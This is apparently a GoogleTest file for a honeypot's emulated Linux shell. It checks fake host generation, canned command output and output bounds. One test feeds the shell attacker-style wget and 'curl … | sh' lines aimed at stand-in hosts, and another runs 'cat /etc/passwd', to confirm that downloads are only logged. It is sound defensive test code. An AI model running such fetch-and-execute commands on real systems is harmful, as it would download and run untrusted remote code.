#include "honeypot/shell.h"

#include <gtest/gtest.h>

#include <set>

namespace mamori::honeypot {
namespace {

TEST(FakeSystem, SameSeedSameHostOtherSeedsDiffer) {
  const auto a = make_fake_system(42);
  const auto b = make_fake_system(42);
  EXPECT_EQ(a.hostname, b.hostname);
  EXPECT_EQ(a.kernel_release, b.kernel_release);
  std::set<std::string> names;
  for (uint64_t seed = 1; seed <= 200; ++seed) names.insert(make_fake_system(seed).hostname);
  EXPECT_GT(names.size(), 150u) << "host names must vary from node to node";
  EXPECT_EQ(make_fake_system(7, "db-3").hostname, "db-3");
}

TEST(Shell, CommandsAnswerFromTheFakeSystem) {
  const auto sys = make_fake_system(1234);
  Shell sh(sys, "root", 4096, 4096);
  EXPECT_EQ(sh.prompt(), "root@" + sys.hostname + ":~# ");
  auto r = sh.run("uname -a");
  EXPECT_EQ(r.output, "Linux " + sys.hostname + " " + sys.kernel_release + " " +
                          sys.kernel_version + " x86_64 GNU/Linux\r\n");
  EXPECT_EQ(sh.run("id").output, "uid=0(root) gid=0(root) groups=0(root)\r\n");
  EXPECT_EQ(sh.run("whoami; pwd").output, "root\r\n/root\r\n");
  EXPECT_EQ(sh.run("cd /tmp && pwd").output, "/tmp\r\n");
  EXPECT_EQ(sh.prompt(), "root@" + sys.hostname + ":/tmp# ");
  r = sh.run("cat /etc/passwd");
  EXPECT_NE(r.output.find("root:x:0:0:root:/root:/bin/bash\r\n"), std::string::npos);
  EXPECT_NE(r.output.find(sys.admin_user + ":x:"), std::string::npos);
  r = sh.run("nosuch --flag");
  EXPECT_EQ(r.output, "-bash: nosuch: command not found\r\n");
  EXPECT_EQ(r.exit_status, 127);
  EXPECT_TRUE(sh.run("exit").exit);
}

TEST(Shell, DownloadsAreRecordedNeverFetched) {
  const auto sys = make_fake_system(5);
  Shell sh(sys, "admin", 4096, 4096);
  auto r =
      sh.run("cd /tmp; wget -q http://bad.example/x.sh -O x.sh; curl -s http://203.0.113.9/y | sh");
  ASSERT_EQ(r.downloads.size(), 2u);
  EXPECT_EQ(r.downloads[0], "http://bad.example/x.sh");
  EXPECT_EQ(r.downloads[1], "http://203.0.113.9/y");
  EXPECT_NE(r.output.find("unable to resolve host address 'bad.example'"), std::string::npos);
  EXPECT_NE(r.output.find("Failed to connect to 203.0.113.9"), std::string::npos);
  EXPECT_EQ(sh.prompt().back(), ' ');
  EXPECT_NE(sh.prompt().find("$ "), std::string::npos);  // not root
}

TEST(Shell, OutputAndLineAreBounded) {
  FakeSystem sys = make_fake_system(9);
  sys.cpus = 8;
  Shell sh(sys, "root", 64, 300);
  auto r = sh.run("cat /proc/cpuinfo /etc/passwd /etc/passwd");
  EXPECT_EQ(r.output.size(), 300u);
  r = sh.run("echo " + std::string(500, 'a'));
  EXPECT_TRUE(r.truncated);
  EXPECT_LE(r.output.size(), 300u);
  // Many commands on one line cannot add up past the bound either.
  std::string many;
  for (int i = 0; i < 40; ++i) many += "id;";
  Shell wide(sys, "root", 4096, 300);
  EXPECT_LE(wide.run(many).output.size(), 300u);
}

TEST(Shell, Words) {
  EXPECT_EQ(split_words("echo 'a b'  \"c d\" e"),
            (std::vector<std::string>{"echo", "a b", "c d", "e"}));
  EXPECT_TRUE(split_words("   ").empty());
}

}  // namespace
}  // namespace mamori::honeypot
